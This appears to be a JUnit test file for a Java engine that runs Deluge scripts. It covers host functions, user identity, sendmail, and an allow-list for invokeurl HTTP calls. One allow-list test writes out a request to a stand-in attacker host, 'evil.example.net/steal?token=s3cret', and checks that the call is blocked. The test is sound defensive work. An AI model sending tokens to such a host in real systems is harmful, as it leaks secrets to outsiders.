package dev.freshet.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.freshet.builtins.BuiltinRegistry;
import dev.freshet.http.HttpCall;
import dev.freshet.http.HttpReply;
import dev.freshet.http.HttpTransport;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;

/** Host functions, the engine's user, allowed hosts for invokeurl, and sendmail without a sender. */
class HostServicesTest {
  private final List<String> out = new ArrayList<>();

  private static final HostFunction RECORD = args -> {
    if (args.get(1).equals(0L)) {
      throw new IllegalStateException("no Leads record with id 0");
    }
    return Map.of("id", args.get(1), "Last_Name", "Lovelace", "module", args.get(0));
  };

  private Engine.Builder builder() {
    return Engine.builder().output(out::add)
        .function("zoho.crm.getRecordById", List.of("module", "id", "[connection]"), "Fetches one CRM record", RECORD)
        .function("sendSms", List.of("to", "text"), "Sends a text message", args -> "sent to " + args.get(0));
  }

  @Test
  void scriptsCallHostFunctionsLikeBuiltIns() {
    Engine engine = builder().build();
    engine.check("crm.dg", "r = zoho.crm.getRecordById(\"Leads\", 42);\ninfo r.get(\"Last_Name\");\n"
        + "info sendSms(\"+441234\", \"hi\");");
    engine.compile("crm.dg", "r = zoho.crm.getRecordById(\"Leads\", 42);\ninfo r.get(\"Last_Name\") + \" \""
        + " + r.get(\"id\");\ninfo sendSms(\"+441234\", \"hi\");").run(Map.of());
    assertEquals(List.of("Lovelace 42", "sent to +441234"), out);
  }

  @Test
  void anOptionalParameterMayBeLeftOutOrGiven() {
    List<List<Object>> seen = new CopyOnWriteArrayList<>();
    Engine engine = Engine.builder().function("ping", List.of("a", "[b]"), "Echoes", args -> {
      seen.add(args);
      return args.size();
    }).build();
    assertEquals(1L, engine.compile("t.dg", "return ping(1);").run(Map.of()).value());
    assertEquals(2L, engine.compile("t.dg", "return ping(1, {\"k\": {true}});").run(Map.of()).value());
    assertEquals(List.of(List.of(1L), List.of(1L, Map.of("k", List.of(true)))), seen);
  }

  @Test
  void aFailingHostFunctionIsARuntimeErrorTheScriptCanCatch() {
    Engine engine = builder().build();
    RunException e = assertThrows(RunException.class, () -> engine.compile("crm.dg",
        "info \"start\";\nr = zoho.crm.getRecordById(\"Leads\", 0);").run(Map.of()));
    assertEquals("crm.dg:2:5: runtime error: zoho.crm.getRecordById failed: no Leads record with id 0",
        e.getMessage());
    engine.compile("crm.dg", "try {\n  zoho.crm.getRecordById(\"Leads\", 0);\n} catch (err) {\n  info err.message;\n}")
        .run(Map.of());
    assertEquals(List.of("start", "zoho.crm.getRecordById failed: no Leads record with id 0"), out);
  }

  @Test
  void wrongArgumentCountsNameTheHostFunctionsSignature() {
    RunException e = assertThrows(RunException.class,
        () -> builder().build().compile("t.dg", "sendSms(\"x\");").run(Map.of()));
    assertEquals("t.dg:1:1: runtime error: sendSms does not take 1 argument; use sendSms(to, text)", e.getMessage());
  }

  @Test
  void aHostFunctionReturningAnUnknownTypeIsARuntimeError() {
    Engine engine = Engine.builder().function("bad", List.of(), "Returns a thread", args -> Thread.currentThread())
        .build();
    RunException e = assertThrows(RunException.class, () -> engine.compile("t.dg", "x = bad();").run(Map.of()));
    assertTrue(e.getMessage().startsWith("t.dg:1:5: runtime error: bad failed: the value bad returned: a"
        + " java.lang.Thread has no Deluge form"), e.getMessage());
  }

  @Test
  void withoutTheHostFunctionTheCallIsNotDefined() {
    CompileException e = assertThrows(CompileException.class,
        () -> Engine.builder().build().compile("t.dg", "sendSms(\"x\", \"y\");"));
    assertEquals("t.dg:1:1: error: function 'sendSms' is not defined", e.getMessage());
  }

  @Test
  void hostFunctionsAreCheckedWhenDeclared() {
    assertEquals("host function len clashes with the built-in len(text); choose another name",
        assertThrows(IllegalArgumentException.class,
            () -> Engine.builder().function("len", List.of("x"), "Mine", args -> 1).build()).getMessage());
    assertThrows(IllegalArgumentException.class, () -> Engine.builder().function("send sms", List.of(), "d", a -> 1));
    assertThrows(IllegalArgumentException.class, () -> Engine.builder().function("f", List.of("[a]", "b"), "d",
        a -> 1));
    assertThrows(IllegalArgumentException.class, () -> Engine.builder().function("f", List.of(), " ", a -> 1));
    assertThrows(IllegalArgumentException.class, () -> builder().function("SENDSMS", List.of(), "d", a -> 1));
  }

  @Test
  void hostFunctionsAreListedWithTheirDocs() {
    BuiltinRegistry registry = builder().build().registry();
    BuiltinRegistry.Entry e = registry.entries().stream()
        .filter(x -> x.builtin().name().equals("zoho.crm.getRecordById")).findFirst().orElseThrow();
    assertEquals("Host", e.family());
    assertEquals("zoho.crm.getRecordById(module, id[, connection])", e.builtin().signature());
    assertEquals("Fetches one CRM record", e.builtin().doc());
    assertEquals(1, registry.lookup("zoho.crm.getRecordById").size(), "the host's function replaces the task");
    assertTrue(BuiltinRegistry.standard().lookup("sendSms").isEmpty(), "other engines are not affected");
  }

  @Test
  void theEnginesUserIsTheLoginAndAdminUser() {
    String script = "info zoho.loginuserid;\ninfo zoho.adminuserid;\ninfo zoho.loginuser;\ninfo zoho.adminuser;";
    Engine.builder().output(out::add).build().compile("u.dg", script).run(Map.of());
    Engine.builder().output(out::add).user("ada@example.com").build().compile("u.dg", script).run(Map.of());
    assertEquals(List.of("freshet@localhost", "freshet@localhost", "freshet", "freshet",
        "ada@example.com", "ada@example.com", "ada", "ada"), out);
  }

  /** A transport that records the hosts it was asked to reach and answers 200 "ok" (or a redirect to /away). */
  static final class Recording implements HttpTransport {
    final List<String> hosts = new CopyOnWriteArrayList<>();

    @Override
    public HttpReply send(HttpCall call) {
      hosts.add(call.uri().getHost());
      if (call.uri().getPath().equals("/redirect")) {
        return new HttpReply(302, Map.of("Location", List.of("https://elsewhere.example/away")), new byte[0]);
      }
      return new HttpReply(200, Map.of("Content-Type", List.of("text/plain")),
          "ok".getBytes(StandardCharsets.UTF_8));
    }
  }

  private static String fetch(String url) {
    return "r = invokeurl\n[\n  url: \"" + url + "\"\n  type: GET\n];\ninfo r;";
  }

  @Test
  void anyHostIsAllowedByDefault() {
    Recording t = new Recording();
    Engine.builder().output(out::add).transport(t).build().compile("h.dg", fetch("https://api.example.com/x"))
        .run(Map.of());
    assertEquals(List.of("ok"), out);
    assertEquals(List.of("api.example.com"), t.hosts);
  }

  @Test
  void anAllowListAdmitsNamesAndSubdomainsOnly() {
    Recording t = new Recording();
    Engine engine = Engine.builder().output(out::add).transport(t).allowedHosts("API.example.com", "*.zoho.com")
        .build();
    engine.compile("h.dg", fetch("https://api.example.com/x")).run(Map.of());
    engine.compile("h.dg", fetch("https://www.zohoapis.zoho.com/crm")).run(Map.of());
    RunException e = assertThrows(RunException.class,
        () -> engine.compile("h.dg", fetch("https://evil.example.net/steal?token=s3cret")).run(Map.of()));
    assertEquals("h.dg:1:1: runtime error: invokeurl cannot call evil.example.net: it is not one of this engine's"
        + " allowed hosts (api.example.com, *.zoho.com)", e.getMessage());
    assertThrows(RunException.class, () -> engine.compile("h.dg", fetch("https://zoho.com/")).run(Map.of()));
    assertEquals(List.of("api.example.com", "www.zohoapis.zoho.com"), t.hosts, "nothing was sent to the others");
  }

  @Test
  void redirectsAreHeldToTheAllowList() {
    Recording t = new Recording();
    Engine engine = Engine.builder().transport(t).allowedHosts("api.example.com").build();
    RunException e = assertThrows(RunException.class,
        () -> engine.compile("h.dg", fetch("https://api.example.com/redirect")).run(Map.of()));
    assertTrue(e.getMessage().endsWith("invokeurl cannot call elsewhere.example: it is not one of this engine's"
        + " allowed hosts (api.example.com)"), e.getMessage());
    assertEquals(List.of("api.example.com"), t.hosts);
  }

  @Test
  void noAllowedHostsDeniesEveryRequest() {
    Recording t = new Recording();
    Engine engine = Engine.builder().transport(t).allowedHosts().build();
    RunException e = assertThrows(RunException.class,
        () -> engine.compile("h.dg", fetch("http://127.0.0.1:8080/")).run(Map.of()));
    assertTrue(e.getMessage().endsWith("invokeurl cannot call 127.0.0.1: this engine allows no hosts"));
    assertTrue(t.hosts.isEmpty());
    assertThrows(IllegalArgumentException.class, () -> Engine.builder().allowedHosts("https://api.example.com"));
  }

  @Test
  void sendmailWithoutASenderIsAClearError() {
    RunException e = assertThrows(RunException.class, () -> Engine.builder().build().compile("m.dg",
        "sendmail\n[\n  from: zoho.adminuserid\n  to: \"a@example.com\"\n  subject: \"s\"\n  message: \"m\"\n];")
        .run(Map.of()));
    assertEquals("m.dg:1:1: runtime error: sendmail cannot run: this engine has no mail sender", e.getMessage());
  }

  @Test
  void sendmailGoesThroughTheHostsSenderFromTheEnginesUser() {
    List<dev.freshet.mail.MailMessage> sent = new CopyOnWriteArrayList<>();
    Engine engine = Engine.builder().output(out::add).user("ada@example.com").mail(m -> {
      sent.add(m);
      return "outbox";
    }).build();
    engine.compile("m.dg", "sendmail\n[\n  to: \"grace@example.com\"\n  subject: \"Hi\"\n  message: \"Body\"\n];\n"
        + "sendmail\n[\n  from: zoho.loginuserid\n  to: \"linus@example.com\"\n  subject: \"Re\"\n"
        + "  message: \"Two\"\n];").run(Map.of());
    assertEquals(2, sent.size());
    assertEquals("ada@example.com", sent.get(0).from());
    assertEquals(List.of("grace@example.com"), sent.get(0).to());
    assertEquals("Hi", sent.get(0).subject());
    assertEquals("ada@example.com", sent.get(1).from());
  }
}
